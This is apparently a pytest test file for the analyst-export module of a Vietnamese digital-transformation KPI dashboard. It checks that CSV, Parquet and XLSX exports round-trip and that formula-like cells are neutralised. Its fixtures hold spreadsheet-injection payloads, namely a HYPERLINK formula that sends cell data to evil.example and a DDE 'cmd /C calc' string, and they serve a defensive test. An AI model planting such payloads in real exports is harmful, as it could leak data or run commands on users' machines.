"""Analyst exports: every format reads back to the same rows, sources and safe cells."""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from pathlib import Path

import pandas as pd
import pyarrow.parquet as pq
import pytest
from openpyxl import load_workbook
from support import build_served_db

from metrics import export
from metrics.catalog import load_catalog

ROOT = Path(__file__).resolve().parents[1]
VI_NAME = "Tỷ lệ dịch vụ công trực tuyến toàn trình"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
NEGATIVE_QUOTE = "- Tăng trưởng kinh tế số giảm 3,5% so với cùng kỳ"


def make_reader_rows() -> pd.DataFrame:
    """Rows as metrics.queries.read_current_series might return them (reader column names)."""
    doc = {
        "document": "004_bao-cao-cds-thang-02-2024.txt",
        "title": "Báo cáo tình hình chuyển đổi số quốc gia tháng 02/2024",
        "number": "12/BC-UBQGCĐS",
        "published_date": dt.date(2024, 3, 1),
    }
    notice = {
        "document": "000_thong-bao-203-TB-VPCP_phien-hop-8_web.txt",
        "title": "Thông báo kết luận phiên họp thứ 8",
        "number": "203/TB-VPCP",
        "published_date": dt.date(2024, 5, 7),
    }
    rows = [
        dict(doc, indicator="dvctt_full_process_rate", breakdown="national", period_kind="as_of",
             period_start=dt.date(2024, 2, 19), period_end=dt.date(2024, 2, 19), value=48.28,
             unit="percent", qualifier="đạt", status="accepted",
             quote=f"{VI_NAME} đạt 48,28%", name_vi=VI_NAME,
             name_en="Full-process online public services", family="e_services"),
        dict(doc, indicator="national_portal_accounts", breakdown="national", period_kind="as_of",
             period_start=dt.date(2024, 2, 19), period_end=dt.date(2024, 2, 19), value=2800000.0,
             unit="count", qualifier="hơn", status="accepted",
             quote="Cổng Dịch vụ công quốc gia có hơn 2,8 triệu tài khoản",
             name_vi="Số tài khoản Cổng DVCQG", name_en="National portal accounts",
             family="e_services"),
        dict(notice, indicator="ndxp_transactions_period", breakdown="national", period_kind="month",
             period_start=dt.date(2024, 4, 1), period_end=dt.date(2024, 4, 30), value=1234.5,
             unit="count", qualifier="", status="accepted", quote=HYPERLINK,
             name_vi="Giao dịch NDXP trong kỳ", name_en="NDXP transactions in the period",
             family="ndxp"),
        dict(notice, indicator="cyberattacks", breakdown="Hà Nội", period_kind="quarter",
             period_start=dt.date(2024, 1, 1), period_end=dt.date(2024, 3, 31), value=None,
             unit="count", qualifier="khoảng", status="accepted", quote=AT_SUM,
             name_vi="Số cuộc tấn công mạng", name_en="Cyberattacks", family="cybersecurity"),
        dict(notice, indicator="digital_economy_growth", breakdown="national", period_kind="year",
             period_start=dt.date(2023, 1, 1), period_end=dt.date(2023, 12, 31), value=-3.5,
             unit="percent", qualifier="", status="accepted", quote=NEGATIVE_QUOTE,
             name_vi="Tăng trưởng kinh tế số", name_en="Digital economy growth",
             family="digital_economy"),
    ]  # fmt: skip
    return pd.DataFrame(rows)


@pytest.fixture(scope="module")
def catalog() -> pd.DataFrame:
    return load_catalog()


@pytest.fixture()
def frame(catalog) -> pd.DataFrame:
    return export.build_export_frame(make_reader_rows(), catalog)


def expected_text(frame: pd.DataFrame) -> pd.DataFrame:
    """What CSV must hold: the frame with formula-like text neutralised (XLSX holds it exactly)."""
    return export.neutralise_frame(frame)


def assert_same_rows(read: pd.DataFrame, source: pd.DataFrame) -> None:
    """Compare a read-back export with its source frame column by column."""
    assert list(read.columns) == list(source.columns)
    assert len(read) == len(source)
    for column in source.columns:
        left, right = read[column], source[column]
        if column in export.DATE_COLUMNS:
            left = pd.to_datetime(left).dt.date
            right = right.dt.date
        elif column == "value":
            pd.testing.assert_series_equal(left.astype(float), right, check_names=False)
            continue
        got = [None if pd.isna(v) or v == "" else v for v in left]
        want = [None if pd.isna(v) or v == "" else v for v in right]
        assert got == want, column


# ---------------------------------------------------------------- the frame


def test_export_columns_start_with_the_extract_columns(frame):
    header = "document,indicator,breakdown,period_kind,period_start,period_end,value,unit,qualifier,status,quote"
    assert list(frame.columns[:11]) == header.split(",")
    for column in ["indicator_name_vi", "indicator_name_en", "family", "document_title",
                   "document_number", "published_date"]:  # fmt: skip
        assert column in frame.columns
    assert "is_current" not in frame.columns


def test_frame_is_typed_and_in_catalog_order(frame, catalog):
    assert frame["value"].dtype == "float64"
    for column in export.DATE_COLUMNS:
        assert pd.api.types.is_datetime64_any_dtype(frame[column])
    order = list(catalog["id"])
    ranks = [order.index(i) for i in frame["indicator"]]
    assert ranks == sorted(ranks)
    assert (
        frame.loc[frame["indicator"] == "dvctt_full_process_rate", "indicator_name_vi"].item()
        == VI_NAME
    )


def test_revisions_add_is_current(catalog):
    rows = make_reader_rows().assign(is_current=[True, False, True, True, True])
    frame = export.build_export_frame(rows, catalog, revisions=True)
    assert frame.columns[-1] == "is_current"
    assert frame["is_current"].dtype == bool
    assert frame["is_current"].sum() == 4


def test_names_come_from_the_catalog_when_rows_lack_them(catalog):
    rows = make_reader_rows().drop(columns=["name_vi", "name_en", "family"])
    frame = export.build_export_frame(rows, catalog)
    row = frame[frame["indicator"] == "dvctt_full_process_rate"].iloc[0]
    assert row["indicator_name_vi"] == VI_NAME
    assert row["family"] == "e_services"


def test_revision_rows_keep_accepted_and_attach_documents(catalog):
    observations = make_reader_rows()[
        ["document", "indicator", "breakdown", "period_kind", "period_start", "period_end",
         "value", "unit", "qualifier", "quote"]
    ].assign(
        doc_sha256=["a", "a", "b", "b", "b"],
        status=["accepted", "needs_review", "corrected", "rejected", "accepted"],
        is_current=[True, True, True, False, False],
    )  # fmt: skip
    documents = pd.DataFrame(
        {"doc_sha256": ["a", "b"], "title": ["Báo cáo tháng 02", "Thông báo 203"],
         "number": ["12/BC", "203/TB-VPCP"], "published_date": ["2024-03-01", "2024-05-07"]}
    )  # fmt: skip
    rows = export.attach_documents(export.select_revision_rows(observations), documents)
    frame = export.build_export_frame(rows, catalog, revisions=True)
    assert sorted(frame["status"]) == ["accepted", "accepted", "corrected"]
    assert set(frame["document_number"]) == {"12/BC", "203/TB-VPCP"}
    assert frame["published_date"].notna().all()


def test_filters_apply_to_every_column(frame):
    assert set(export.filter_export_rows(frame, families=["e_services"])["family"]) == {
        "e_services"
    }
    assert len(export.filter_export_rows(frame, indicators=["cyberattacks"])) == 1
    assert list(export.filter_export_rows(frame, breakdowns=["Hà Nội"])["breakdown"]) == ["Hà Nội"]
    ranged = export.filter_export_rows(frame, date_from="2024-02-01", date_to="2024-03-31")
    assert sorted(ranged["indicator"]) == [
        "cyberattacks", "dvctt_full_process_rate", "national_portal_accounts",
    ]  # fmt: skip
    assert export.filter_export_rows(frame, statuses=["needs_review"]).empty
    assert len(export.filter_export_rows(frame)) == len(frame)


# ---------------------------------------------------------------- formula neutralisation


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "\nx"])
def test_formula_like_text_is_prefixed(text):
    assert export.neutralise_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Hà Nội", "", "48,28%", -3.5, 0, None, 1.5])
def test_other_cells_are_untouched(value):
    assert export.neutralise_cell(value) == value


def test_neutralise_frame_leaves_numbers_alone(frame):
    safe = export.neutralise_frame(frame)
    assert safe["value"].equals(frame["value"])
    assert safe["period_end"].equals(frame["period_end"])
    assert (safe["quote"] == "'" + HYPERLINK).any()


# ---------------------------------------------------------------- CSV


def read_csv_bytes(data: bytes, **kwargs) -> pd.DataFrame:
    """Read export CSV bytes back as text columns (keep_default_na off keeps '' apart)."""
    return pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", **kwargs)


def test_csv_has_bom_and_reads_back_the_same_rows(frame):
    data = export.write_csv(frame)
    assert data.startswith(b"\xef\xbb\xbf")
    assert data[3:].startswith(b"document,indicator,breakdown,period_kind")
    read = read_csv_bytes(data, parse_dates=export.DATE_COLUMNS)
    assert_same_rows(read, expected_text(frame))
    assert VI_NAME in set(read["indicator_name_vi"])
    assert read["value"].dtype == "float64"
    assert read.loc[read["indicator"] == "national_portal_accounts", "value"].item() == 2800000
    assert b"2800000," in data and b"2800000.0" not in data  # counts without a spurious .0


def test_csv_neutralises_formulas_but_not_negative_numbers(frame):
    read = read_csv_bytes(export.write_csv(frame))
    quotes = set(read["quote"])
    assert "'" + HYPERLINK in quotes
    assert "'" + AT_SUM in quotes
    assert "'" + NEGATIVE_QUOTE in quotes
    assert not any(str(q).startswith(export.FORMULA_PREFIXES) for q in quotes)
    assert read.loc[read["indicator"] == "digital_economy_growth", "value"].item() == -3.5


def test_csv_for_vietnamese_excel_uses_semicolons_and_decimal_commas(frame):
    data = export.write_csv(frame, excel_vi=True)
    assert data.startswith(b"\xef\xbb\xbf")
    assert data[3:].startswith(b"document;indicator;")
    assert b";48,28;" in data and b";-3,5;" in data
    read = read_csv_bytes(data, sep=";", decimal=",", parse_dates=export.DATE_COLUMNS)
    assert_same_rows(read, expected_text(frame))


def test_csv_of_an_empty_export_is_a_header(frame):
    data = export.write_csv(frame.iloc[0:0])
    assert data.decode("utf-8-sig").strip() == ",".join(export.EXPORT_COLUMNS)


# ---------------------------------------------------------------- Parquet


def test_parquet_keeps_types_and_exact_quotes(frame):
    data = export.write_parquet(frame)
    schema = pq.read_schema(io.BytesIO(data))
    for column in export.DATE_COLUMNS:
        assert str(schema.field(column).type) == "date32[day]"
    assert str(schema.field("value").type) == "double"
    read = pd.read_parquet(io.BytesIO(data))
    assert isinstance(read.loc[0, "period_end"], dt.date)
    # Tools get the exact source quote; only spreadsheet formats are neutralised.
    assert_same_rows(read, frame)
    assert HYPERLINK in set(read["quote"])


def test_parquet_with_revisions_keeps_booleans(catalog):
    rows = make_reader_rows().assign(is_current=[True, False, True, True, True])
    frame = export.build_export_frame(rows, catalog, revisions=True)
    schema = pq.read_schema(io.BytesIO(export.write_parquet(frame)))
    assert str(schema.field("is_current").type) == "bool"


# ---------------------------------------------------------------- XLSX


def test_xlsx_has_three_sheets_and_reads_back(frame, catalog):
    data = export.write_xlsx(frame, catalog, filters={"family": ["e_services"]})
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == list(export.SHEET_NAMES)
    read = pd.read_excel(io.BytesIO(data), sheet_name="data")
    assert_same_rows(read, frame)  # exact text: XLSX cells are typed, nothing neutralised
    meta = pd.read_excel(io.BytesIO(data), sheet_name="indicators")
    assert sorted(meta["id"]) == sorted(frame["indicator"].unique())
    assert VI_NAME in set(meta["name_vi"])


def test_xlsx_cells_are_dates_numbers_and_safe_strings(frame, catalog):
    sheet = load_workbook(io.BytesIO(export.write_xlsx(frame, catalog)))["data"]
    header = [c.value for c in sheet[1]]
    col = {name: header.index(name) for name in header}
    rows = list(sheet.iter_rows(min_row=2))
    by_indicator = {r[col["indicator"]].value: r for r in rows}
    for row in rows:
        for name in export.DATE_COLUMNS:
            assert row[col[name]].is_date
            assert isinstance(row[col[name]].value, dt.datetime)
        quote = row[col["quote"]]
        assert quote.data_type == "s"
    # A typed text cell is not a formula: the quote is stored exactly, with no ' added.
    link = by_indicator["ndxp_transactions_period"][col["quote"]]
    assert link.value == HYPERLINK and link.data_type == "s" and link.quotePrefix
    at_sum = by_indicator["cyberattacks"][col["quote"]]
    assert at_sum.value == AT_SUM and at_sum.data_type == "s"
    assert by_indicator["cyberattacks"][col["value"]].value is None
    negative = by_indicator["digital_economy_growth"][col["value"]]
    assert negative.value == -3.5 and negative.data_type == "n"
    assert by_indicator["dvctt_full_process_rate"][col["quote"]].value == f"{VI_NAME} đạt 48,28%"
    assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)


def test_xlsx_method_sheet_lists_sources(frame, catalog):
    book = load_workbook(io.BytesIO(export.write_xlsx(frame, catalog, lang="en")))
    text = [str(c.value) for r in book["method_sources"].iter_rows() for c in r if c.value]
    assert "Method" in text and "Source documents" in text
    assert "203/TB-VPCP" in text
    assert "Thông báo kết luận phiên họp thứ 8" in text
    assert "004_bao-cao-cds-thang-02-2024.txt" in text


def test_write_export_refuses_unknown_formats(frame, catalog):
    with pytest.raises(ValueError, match="json"):
        export.write_export(frame, "json", catalog)


# ---------------------------------------------------------------- the CLI


def run_cli(argv: list[str], capsys) -> tuple[int, bytes, str]:
    """Run `kpi` in-process, capturing binary stdout and text stderr."""
    from cli import build_parser, resolve_db

    args = build_parser().parse_args(argv)
    args.db = resolve_db(args.db)
    out = io.BytesIO()
    code = export.run_export_cli(args, stdout=out)
    return code, out.getvalue(), capsys.readouterr().err


def test_cli_unknown_indicator_is_a_usage_error(tmp_path, capsys):
    code, out, err = run_cli(
        ["export", "--indicator", "dvctt_rate", "--indicator", "no_such_kpi",
         "--db", str(tmp_path / "kpi.duckdb")], capsys,
    )  # fmt: skip
    assert code == 2
    assert "no_such_kpi" in err and "dvctt_rate" not in err
    assert out == b""


def test_cli_unknown_indicator_lists_close_ids(tmp_path, capsys):
    code, _, err = run_cli(["export", "--indicator", "dvctt_rates", "--db", str(tmp_path)], capsys)
    assert code == 2 and "did you mean dvctt_rate" in err


def test_cli_missing_database_names_it(tmp_path, capsys):
    db = tmp_path / "nowhere" / "kpi.duckdb"
    code, out, err = run_cli(["export", "--db", str(db)], capsys)
    assert code == 66
    assert str(db) in err and "kpi refresh" in err


def test_cli_out_in_a_missing_folder_is_one_line_not_a_traceback(tmp_path, capsys):
    out_file = tmp_path / "no_such_folder" / "x.csv"
    code, out, err = run_cli(["export", "--out", str(out_file), "--db", str(tmp_path)], capsys)
    assert code == 2 and out == b""
    assert err.count("\n") == 1 and "does not exist" in err and str(out_file.parent) in err


def test_cli_binary_format_to_a_terminal_is_refused_with_a_hint(tmp_path, capsys, monkeypatch):
    monkeypatch.setattr("sys.stdout.isatty", lambda: True)
    code, out, err = run_cli(["export", "--format", "xlsx", "--db", str(tmp_path)], capsys)
    assert code == 2 and out == b""
    assert "--out" in err


def test_cli_bad_date_is_a_usage_error(tmp_path, capsys):
    code, _, err = run_cli(["export", "--from", "19/02/2024", "--db", str(tmp_path)], capsys)
    assert code == 2 and "--from" in err


def test_cli_writes_bytes_to_stdout_or_out(tmp_path, capsys, monkeypatch, frame):
    db = tmp_path / "kpi.duckdb"
    db.write_bytes(b"")
    seen = {}

    def fake_read(db_path, **kwargs):
        seen.update(kwargs)
        return frame

    monkeypatch.setattr(export, "read_export_rows", fake_read)
    code, out, _ = run_cli(["export", "--family", "ndxp", "--db", str(db)], capsys)
    assert code == 0 and out == export.write_csv(frame)
    assert seen["families"] == ["ndxp"]
    target = tmp_path / "out.xlsx"
    code, out, _ = run_cli(
        ["export", "--format", "xlsx", "--out", str(target), "--db", str(db)], capsys
    )
    assert code == 0 and out == b""
    assert load_workbook(target).sheetnames == list(export.SHEET_NAMES)


# ---------------------------------------------------------------- against a real database


@pytest.fixture(scope="module")
def real_db(tmp_path_factory) -> Path:
    """A database built by the monthly job from the bundled reports and targets."""
    return build_served_db(tmp_path_factory.mktemp("export-db"))


def test_real_export_matches_the_current_series(real_db, catalog, tmp_path, capsys):
    from metrics.queries import read_current_series

    source = export.build_export_frame(read_current_series(real_db), catalog)
    assert not source.empty, "the bundled reports should give current values"
    assert set(source["status"]) <= set(export.ACCEPTED_STATUSES)
    for fmt in export.FORMATS:
        target = tmp_path / f"export.{fmt}"
        code, _, err = run_cli(["export", "--format", fmt, "--out", str(target), "--db", str(real_db)], capsys)  # fmt: skip
        assert code == 0, err
        data = target.read_bytes()
        if fmt == "csv":
            assert data.startswith(b"\xef\xbb\xbf")
            read = read_csv_bytes(data, parse_dates=export.DATE_COLUMNS)
            assert_same_rows(read, expected_text(source))
        elif fmt == "parquet":
            assert_same_rows(pd.read_parquet(io.BytesIO(data)), source)
        else:
            assert_same_rows(pd.read_excel(io.BytesIO(data), sheet_name="data"), source)
    assert source["indicator_name_vi"].notna().all()
    assert source["document_title"].notna().any()


def test_real_export_filters_by_indicator_and_revisions(real_db, capsys):
    code, out, err = run_cli(["export", "--revisions", "--db", str(real_db)], capsys)
    assert code == 0, err
    revisions = read_csv_bytes(out)
    assert "is_current" in revisions.columns
    indicator = revisions.loc[revisions["is_current"], "indicator"].iloc[0]
    code, out, _ = run_cli(["export", "--indicator", indicator, "--db", str(real_db)], capsys)
    current = read_csv_bytes(out)
    assert set(current["indicator"]) == {indicator}
    assert (
        len(current)
        == revisions[(revisions["indicator"] == indicator) & revisions["is_current"]].shape[0]
    )


# ---------------------------------------------------------------- data page builders


def test_page_filters_match_the_download(frame, catalog):
    from layouts import data_builders as b

    review = frame.iloc[[0]].assign(status="needs_review", value=50.0)
    corrected = frame.iloc[[1]].assign(status="corrected")
    table = pd.concat([frame, review, corrected], ignore_index=True)
    accepted = b.apply_filters(table, b.build_filters(None, None, None, None, None, ["accepted"]))
    assert len(accepted) == len(frame) + 1  # corrected counts as accepted
    both = b.apply_filters(table, b.build_filters([], [], [], "", "", ["accepted", "needs_review"]))
    assert len(both) == len(table)
    assert b.apply_filters(table, b.build_filters(None, None, None, None, None, [])).empty
    narrowed = b.apply_filters(
        table,
        b.build_filters(["e_services"], None, ["national"], "2024-02-01", "bad", ["accepted"]),
    )
    assert set(narrowed["indicator"]) == {"dvctt_full_process_rate", "national_portal_accounts"}
    payload = b.build_download(narrowed, "csv", catalog, today=dt.date(2024, 7, 19))
    assert payload["filename"] == "kpi-chuyen-doi-so_2024-07-19.csv" and payload["base64"]
    import base64

    data = base64.b64decode(payload["content"])
    assert data.startswith(b"\xef\xbb\xbf")
    assert len(read_csv_bytes(data)) == len(narrowed)
    semi = base64.b64decode(b.build_download(narrowed, "csv", catalog, excel_vi=True)["content"])
    assert len(read_csv_bytes(semi, sep=";", decimal=",")) == len(narrowed)
    xlsx = b.build_download(
        narrowed,
        "xlsx",
        catalog,
        filters=b.build_filters(["e_services"], *[None] * 4, ["accepted"]),
    )
    assert load_workbook(io.BytesIO(base64.b64decode(xlsx["content"]))).sheetnames == list(
        export.SHEET_NAMES
    )


def test_grid_rows_are_json_and_in_the_language(frame):
    import json

    from layouts import data_builders as b
    from metrics.catalog import load_families

    rows = b.build_grid_rows(frame, "en", load_families())
    json.dumps(rows)  # everything the grid receives must be JSON
    first = next(r for r in rows if r["indicator"] == "dvctt_full_process_rate")
    assert first["indicator_name"] == "Full-process online public services"
    assert first["breakdown"] == "National" and first["family"] == "E-services"
    assert first["period_end"] == "2024-02-19" and first["value"] == 48.28
    assert next(r for r in rows if r["indicator"] == "cyberattacks")["value"] is None
    vi = b.build_grid_rows(frame, "vi", load_families())
    assert any(r["indicator_name"] == VI_NAME for r in vi)
    assert {c["field"] for c in b.build_column_defs("vi")} == set(rows[0])


def test_page_options_and_url_values(frame, catalog):
    from layouts import data_builders as b
    from metrics.catalog import load_families

    assert b.parse_list("a, b,,c") == ["a", "b", "c"] and b.parse_list(None) == []
    assert (
        b.parse_date("2024-02-19T00:00:00") == "2024-02-19" and b.parse_date("19/02/2024") is None
    )
    families = b.build_family_options(load_families(), "vi")
    assert families[0] == {"label": "Dịch vụ công trực tuyến", "value": "e_services"}
    indicators = b.build_indicator_options(frame, catalog, "vi", ["e_services"])
    assert [o["value"] for o in indicators] == [
        "dvctt_full_process_rate",
        "national_portal_accounts",
    ]
    assert [o["value"] for o in b.build_breakdown_options(frame, "vi")] == ["national", "Hà Nội"]
    assert b.describe_count(1234, 5678, "vi") == "1.234 / 5.678 dòng"
    assert b.describe_count(1234, 5678, "en") == "1,234 of 5,678 rows"


# ---------------------------------------------------------------- a hostile report, end to end

HOSTILE_REPORT = """BÁO CÁO TÌNH HÌNH CHUYỂN ĐỔI SỐ QUỐC GIA THÁNG 03/2024

Tính đến ngày 19/03/2024:

=HYPERLINK("http://evil.example/","Bấm") Tỷ lệ DVCTT toàn trình (trên tổng TTHC): 49,5%.

@SUM(1+1) Tỷ lệ DVCTT (trên tổng TTHC): 82,3%.
"""


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory) -> Path:
    """A database built by `kpi refresh` from one report whose sentences start like formulas."""
    from cli import main

    work = tmp_path_factory.mktemp("hostile")
    reports = work / "reports"
    reports.mkdir()
    (reports / "005_bao-cao-cds-thang-03-2024.txt").write_text(HOSTILE_REPORT, encoding="utf-8")
    db = work / "kpi.duckdb"
    code = main(["refresh", "--reports", str(reports), "--db", str(db),
                 "--reviews", str(work / "reviews.csv"), "--targets", str(work / "targets.csv")])  # fmt: skip
    assert code == 0 and db.exists(), f"kpi refresh exited {code}"
    return db


def test_hostile_quotes_are_neutralised_in_csv_and_exact_text_in_xlsx(hostile_db, tmp_path, capsys):
    from metrics.queries import read_current_series

    quotes = set(read_current_series(hostile_db)["quote"])
    starts = {q.split("(")[0] for q in quotes}
    assert {"=HYPERLINK", "@SUM"} <= starts, f"extractor should keep these quotes whole: {quotes}"
    code, out, err = run_cli(["export", "--db", str(hostile_db)], capsys)
    assert code == 0, err
    read = read_csv_bytes(out)
    assert set(read["quote"]) == {"'" + q for q in quotes}
    assert set(read["value"]) == {49.5, 82.3}
    target = tmp_path / "hostile.xlsx"
    code, _, err = run_cli(["export", "--format", "xlsx", "--out", str(target), "--db", str(hostile_db)], capsys)  # fmt: skip
    assert code == 0, err
    sheet = load_workbook(target)["data"]
    header = [c.value for c in sheet[1]]
    cells = [row[header.index("quote")] for row in sheet.iter_rows(min_row=2)]
    assert {c.value for c in cells} == quotes  # exact: typed text cells, no ' added
    assert all(c.data_type == "s" for c in cells)
    with zipfile.ZipFile(target) as book:  # no formula element anywhere in the sheet
        assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")
    assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)
    # Parquet is for tools, not spreadsheets: the quote stays exactly as in the report.
    code, out, _ = run_cli(["export", "--format", "parquet", "--db", str(hostile_db)], capsys)
    assert set(pd.read_parquet(io.BytesIO(out))["quote"]) == quotes


def test_indicator_page_download_carries_revisions(catalog):
    import base64

    from layouts import data_builders as b

    rows = make_reader_rows().iloc[[0]]
    rows = pd.concat([rows, rows.assign(value=40.0, is_current=False)]).fillna({"is_current": True})
    payload = b.build_indicator_download(rows, "csv", catalog, today=dt.date(2024, 7, 19))
    assert payload["filename"] == "kpi_dvctt_full_process_rate_2024-07-19.csv"
    read = read_csv_bytes(base64.b64decode(payload["content"]))
    assert sorted(read["value"]) == [40.0, 48.28]
    assert sorted(read["is_current"]) == [False, True]


def test_method_sheet_and_readme_say_how_each_format_keeps_a_quote(frame, catalog):
    for lang, words in [("vi", ("OWASP", "XLSX", "Parquet")), ("en", ("OWASP", "XLSX", "Parquet"))]:
        sheet = load_workbook(io.BytesIO(export.write_xlsx(frame, catalog, lang=lang)))
        text = " ".join(str(c.value) for r in sheet["method_sources"].iter_rows() for c in r)
        assert all(word in text for word in words), lang
    readme = (Path(__file__).parents[1] / "README.md").read_text(encoding="utf-8")
    assert "OWASP" in readme
